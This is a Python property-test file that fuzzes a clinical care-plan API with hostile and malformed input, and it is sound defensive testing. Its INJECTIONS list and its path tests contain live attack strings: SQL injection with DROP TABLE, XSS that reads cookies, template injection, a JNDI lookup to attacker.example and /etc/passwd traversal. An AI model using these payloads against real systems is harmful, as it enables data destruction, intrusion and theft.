"""Hostile input: never a 500, and nothing invalid is ever stored.

Property tests (hypothesis) send every command endpoint arbitrary JSON and
mutations of valid bodies (wrong types, missing and extra fields, NaN, huge
numbers, control characters, lone surrogates), with arbitrary If-Match and
Idempotency-Key headers: the answer is never a 5xx; a refusal is a problem
document and leaves the event store exactly as it was; an acceptance records
exactly one event (two for a clinic's first policy and for a create under an
Idempotency-Key, which also saves the key's record). Then fixed cases:
oversized and chunked bodies (413), deeply nested JSON, huge strings, unicode
edge cases, and SQL and script injection strings, which come back verbatim
(and never run).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any
from uuid import UUID

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from reliability_support import (
    GOAL,
    OTHER_CLINIC,
    PROBLEM,
    START,
    Recorder,
    assert_reads_logged,
    auth,
    example_body,
    seed_plan,
)

COMMAND_METHODS = {"POST", "PUT", "PATCH", "DELETE"}
EXAMPLES_PER_OPERATION = 25

# Strings that would do harm if anything concatenated them into SQL, HTML or a template.
INJECTIONS = [
    "'); DROP TABLE plans_events;--",
    "'); DROP TABLE stored_events;--",
    "' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM access_log WHERE ('1'='1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.cookie)>',
    "{{7*7}} ${7*7} #{7*7} %s%s%n",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "\\x00\\'; --",
]
# Text that is unusual but legitimate, and must be kept exactly.
UNICODE = [
    "\u202eevil.exe\u202c reversed",  # right-to-left override
    "مرحبا بالعالم - שלום עולם",  # right-to-left scripts
    "\u2067isolate\u2069 and \u200fRLM\u200e",
    "👩‍👩‍👧‍👦 family, 🏳️‍🌈 flag, 🧠 emoji",
    "e\u0301 (combining) vs \u00e9 (precomposed)",
    "\ufeffbyte order mark, zero\u200bwidth space",
    "𝕳𝖊𝖑𝖑𝖔 outside the BMP 𠜎",
    "line\u2028separator\u2029paragraph",
    "tab\tnewline\ncarriage\rreturn",
    "Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ",
]
# Text the service refuses (422): it cannot survive storage or is never meant as text.
REFUSED_TEXT = [
    "nul\u0000byte",
    "lone \ud800 surrogate",
    "lone \udfff low",
    "bell\u0007",
    "\u001b[31m escape",
]


def json_values() -> st.SearchStrategy[Any]:
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**80), max_value=2**80),
        st.floats(allow_nan=True, allow_infinity=True),
        st.text(st.characters(exclude_categories=()), max_size=30),
        st.sampled_from(["", "2025-03-03", "9999-99-99", "PHQ-9", "F41.1", *INJECTIONS]),
    )
    return st.recursive(
        scalars,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
        max_leaves=12,
    )


@st.composite
def mutated(draw: st.DrawFn, example: dict[str, Any]) -> Any:
    """A valid body with some fields replaced, dropped or added, or something else entirely."""
    if draw(st.integers(0, 9)) == 0:
        return draw(json_values())
    body = dict(example)
    for name in list(body):
        action = draw(st.sampled_from(["keep", "keep", "replace", "drop"]))
        if action == "replace":
            body[name] = draw(json_values())
        elif action == "drop":
            del body[name]
    if draw(st.integers(0, 4)) == 0:
        body[draw(st.text(max_size=10))] = draw(json_values())
    return body


header_text = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40)


def fill(path: str, ids: dict[str, str]) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: ids[m.group(1)], path)


def services(rec: Recorder) -> Any:
    return rec._shared.app.state.services  # type: ignore[union-attr]


def head(rec: Recorder) -> int:
    return int(services(rec).plans.recorder.max_notification_id() or 0)


def plan_version(rec: Recorder, plan_id: str) -> int:
    """Straight from the event store (no request, so no access-log entry either)."""
    return int(services(rec).plans.repository.get(UUID(plan_id)).version)


def assert_problem(call: Any, status: int | None = None) -> None:
    assert call.headers["content-type"].startswith(PROBLEM), call
    assert {"type", "title", "status", "detail"} <= set(call.answer), call
    if status is not None:
        assert call.status == status, (call.status, call.answer)
    assert "Traceback" not in json.dumps(call.answer)


def command_operations(rec: Recorder) -> Iterator[tuple[str, str, dict[str, Any]]]:
    openapi = rec.ok("GET", "/openapi.json")
    for path, methods in openapi["paths"].items():
        for method, op in methods.items():
            if method.upper() in COMMAND_METHODS:
                yield method.upper(), path, dict(example_body(openapi, op) or {})


# ----------------------------------------------------------------- properties
@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_no_command_body_causes_a_5xx_or_stores_anything_invalid(inproc: Recorder) -> None:
    rec = inproc
    operations = list(command_operations(rec))
    assert len(operations) >= 17, operations
    outcomes: dict[int, int] = {}

    for method, path, example in operations:
        ids = seed_plan(rec)
        url = fill(path, ids)
        role = "supervisor" if path == "/policy" else "clinician"

        @settings(
            max_examples=EXAMPLES_PER_OPERATION,
            deadline=None,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
        @given(
            body=mutated(example),
            if_match=st.none() | header_text | st.integers(0, 50).map(lambda v: f'"{v}"'),
            key=st.none() | header_text,
        )
        def check(body: Any, if_match: str | None, key: str | None) -> None:
            headers = {"Content-Type": "application/json"}
            if if_match is not None:
                headers["If-Match"] = if_match
            before = head(rec)
            plan_before = plan_version(rec, ids["plan_id"])
            raw = json.dumps(body, allow_nan=True).encode("utf-8", "surrogatepass")
            call = rec.request(method, url, role=role, content=raw, headers=headers, key=key)
            assert call.status is not None and call.status < 500, (method, path, body, call)
            outcomes[call.status] = outcomes.get(call.status, 0) + 1
            after = head(rec)
            plan_after = plan_version(rec, ids["plan_id"])
            if call.status >= 400:
                assert_problem(call)
                assert after == before, (method, path, body, call.answer)
                assert plan_after == plan_before
            elif call.headers.get("idempotent-replayed") == "true":
                assert after == before
            else:
                # One event. Two: a clinic's first policy also registers the policy,
                # and a create under an Idempotency-Key saves the key's record
                # after the plan (the answer's position is the plan's event).
                keyed_create = path == "/plans" and key is not None
                moved = (1, 2) if path == "/policy" else (2,) if keyed_create else (1,)
                assert after - before in moved, (key, body)
                assert call.answer["position"] == after - (1 if keyed_create else 0)
                if path.startswith("/plans/"):
                    assert call.answer["version"] == plan_after == plan_before + 1

        check()

    assert sum(outcomes.values()) >= len(operations) * 10
    print(f"hostile: {sum(outcomes.values())} fuzzed commands, outcomes {sorted(outcomes.items())}")


# ------------------------------------------------------------------ fixed cases
@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_a_keyed_create_stores_the_plan_and_its_key_record_once(inproc: Recorder) -> None:
    """The case the property test draws only now and then: a valid create under an
    Idempotency-Key stores two events, the plan's and then the key's record, and
    answers the plan's; the same key again answers the same plan, storing nothing."""
    rec = inproc
    body = {"client_id": "client-0042", "start_date": START}
    before = head(rec)
    first = rec.request("POST", "/plans", body, key="create-once")
    assert first.status == 201, first.answer
    assert head(rec) == before + 2
    assert first.answer["position"] == before + 1
    assert plan_version(rec, first.answer["id"]) == 1
    again = rec.request("POST", "/plans", body, key="create-once")
    assert again.status == 201 and again.headers.get("idempotent-replayed") == "true"
    assert again.answer["id"] == first.answer["id"]
    assert head(rec) == before + 2


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_oversized_and_deeply_nested_bodies_are_refused_cleanly(inproc: Recorder) -> None:
    rec = inproc
    ids = seed_plan(rec)
    url = f"/plans/{ids['plan_id']}/problems"
    before = head(rec)
    limit = 256 * 1024
    json_headers = {"Content-Type": "application/json"}

    big = json.dumps({"description": "x" * (limit + 10)}).encode()
    assert_problem(rec.request("POST", url, content=big, headers=json_headers), 413)

    def chunks() -> Iterator[bytes]:  # no Content-Length: the size shows only as it streams
        yield b'{"description": "'
        for _ in range(40):
            yield b"y" * 8192
        yield b'"}'

    assert_problem(rec.request("POST", url, content=chunks(), headers=json_headers), 413)

    for nested in (
        b"[" * 100_000 + b"]" * 100_000,
        b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
        b'{"description": ' + b"[" * 20_000 + b"]" * 20_000 + b"}",
        b'{"description": "unterminated',
        b"\xff\xfe\x00garbage",
        b'{"description": "\xc3\x28 invalid utf-8"}',
        b"",
        b"null",
        json.dumps({"description": "d", "reason": "r", "description ": "x"}).encode(),
    ):
        call = rec.request("POST", url, content=nested, headers=json_headers)
        assert_problem(call, 422)
    huge = {"description": "z" * 200_000}
    assert_problem(rec.request("POST", url, huge), 422)
    assert_problem(rec.request("POST", url, {"description": "z" * 2001}), 422)
    assert head(rec) == before
    longest = "z" * 2000
    rec.ok("POST", url, {"description": longest})
    plan = rec.ok("GET", f"/plans/{ids['plan_id']}")
    assert [p["description"] for p in plan["problems"]].count(longest) == 1


def texts_everywhere(rec: Recorder, text: str, client_id: str) -> tuple[str, int]:
    """Put `text` in every free-text field of a new plan; its id and the last position."""
    plan_id = rec.ok(
        "POST",
        "/plans",
        {
            "client_id": client_id,
            "start_date": START,
            "presenting_concerns": [text],
            "diagnoses": [{"code": "F41.1", "description": text}],
            "reason": text,
        },
    )["id"]
    base = f"/plans/{plan_id}"
    problem_id = rec.ok("POST", base + "/problems", {"description": text, "reason": text})[
        "problem_id"
    ]
    goal = {**GOAL, "problem_ids": [problem_id], "statement": text, "reason": text}
    goal_id = rec.ok("POST", base + "/goals", goal)["goal_id"]
    rec.ok("POST", base + f"/goals/{goal_id}/objectives", {"statement": text})
    rec.ok("POST", base + "/interventions", {"modality": "CBT", "goal_ids": [goal_id],
                                             "description": text})  # fmt: skip
    rec.ok("POST", base + "/reviews", {"reviewed_on": START, "outcome": "continue",
                                       "summary": text})  # fmt: skip
    signer = text[:200]
    answer = rec.ok("POST", base + "/signatures", {"signer_role": "client", "signed_on": START,
                                                   "signer_name": signer})  # fmt: skip
    return plan_id, int(answer["position"])


def strings_in(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings_in(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings_in(v)]
    return []


def test_injection_and_unicode_text_comes_back_verbatim_and_never_runs(
    inproc: Recorder, backend: str
) -> None:
    rec = inproc
    stored: dict[str, str] = {}
    for n, text in enumerate(INJECTIONS + UNICODE):
        client_id = f"{text[:180]}#{n}"
        plan_id, position = texts_everywhere(rec, text, client_id)
        stored[plan_id] = text
        base = f"/plans/{plan_id}"
        plan_call = rec.request("GET", base)
        plan = plan_call.answer
        assert plan["client_id"] == client_id
        found = strings_in(plan)
        # concerns, diagnosis, problem, goal, objective, intervention, signer
        assert found.count(text) >= 7, (text, found)
        timeline = rec.ok("GET", base + "/timeline", params={"min_position": position})
        reasons = [item["reason"] for item in timeline["items"] if item["reason"]]
        assert reasons.count(text) >= 3, (text, reasons)
        assert strings_in([i["data"] for i in timeline["items"]]).count(text) >= 7
        # Byte-identical: the raw body holds the text exactly as JSON encodes it.
        encoded = json.dumps(text, ensure_ascii=False)[1:-1].encode()
        raw = rec._client().get(rec.base_url + base, headers=auth()).content
        assert encoded in raw
        # Looked up by the hostile client id, exactly one plan answers.
        listed = rec.ok("GET", "/plans", params={"client_id": client_id, "min_position": position})
        assert [p["id"] for p in listed["items"]] == [plan_id]

    # Nothing ran: every plan is there, the store and the read models answer.
    everything = rec.ok("GET", "/plans", params={"limit": 500})["items"]
    assert {p["id"] for p in everything} >= set(stored)
    for plan_id in stored:
        assert rec.ok("GET", f"/plans/{plan_id}/verify")["valid"] is True
    assert rec.ok("GET", "/plans", params={"client_id": "' OR '1'='1"})["items"] == []
    assert rec.ok("GET", "/access-log", role="auditor")["items"]

    # Hostile ids in the path and the query are refusals, not errors.
    for path in (
        "/plans/'; DROP TABLE plans_events;--",
        "/plans/%27%20OR%201%3D1--/timeline",
        "/plans/<script>/diff?from_version=1",
        "/plans/" + "9" * 5000,
    ):
        call = rec.request("GET", path)
        assert call.status in (404, 422), (path, call.status)
        assert_problem(call)
    for params in ({"type": "' OR 1=1"}, {"from": "<script>"}, {"after": "'; --"}):
        assert_problem(rec.request("GET", "/revisions", params=params), 422)

    # Text the service cannot keep verbatim is refused, not mangled.
    ids = seed_plan(rec)
    version = rec.ok("GET", f"/plans/{ids['plan_id']}")["version"]
    for text in REFUSED_TEXT:
        raw = json.dumps({"description": text}).encode()
        call = rec.request(
            "POST",
            f"/plans/{ids['plan_id']}/problems",
            content=raw,
            headers={"Content-Type": "application/json"},
        )
        assert_problem(call, 422)
        assert "description" in [e["field"] for e in call.answer["errors"]]
        assert text not in call.answer["detail"]
    assert rec.ok("GET", f"/plans/{ids['plan_id']}")["version"] == version
    # Another clinic sees none of it.
    assert rec.ok("GET", "/plans", clinic=OTHER_CLINIC)["items"] == []

    def as_auditor(path: str, params: dict[str, Any], clinic: str) -> Any:
        return rec.ok("GET", path, role="auditor", clinic=clinic, params=params)

    assert_reads_logged(rec.calls, as_auditor)
